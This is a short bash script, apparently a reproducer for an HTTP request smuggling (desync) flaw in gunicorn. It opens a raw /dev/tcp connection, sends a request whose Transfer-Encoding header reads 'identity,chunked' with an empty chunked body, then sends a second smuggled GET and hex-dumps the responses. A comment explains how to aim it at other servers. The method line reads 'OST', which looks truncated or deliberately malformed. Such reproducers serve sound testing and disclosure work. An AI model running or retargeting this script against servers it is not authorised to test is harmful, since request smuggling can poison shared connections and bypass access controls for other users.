#!/bin/bash
# desync/te-unknown-coding/smuggled-request via stream.concatenate against gunicorn
# HOST=… PORT=… aim it at another server (the bytes keep the original Host or :authority).
HOST=${HOST:-127.0.0.1}
PORT=${PORT:-39237}
# A server that closes early makes a later write fail; the answer is still read.
trap '' PIPE
exec 3<>"/dev/tcp/$HOST/$PORT" || exit 1
timeout 2.1 cat <&3 | xxd &
printf 'OST / HTTP/1.1\r\nHost:127.0.0.1:39237\r\nTransfer-Encoding:identity,chunked\r\n\r\n0\r\n\r\n' >&3
sleep 0.1
printf 'GET / HTTP/1.0\r\n\r\n' >&3
wait
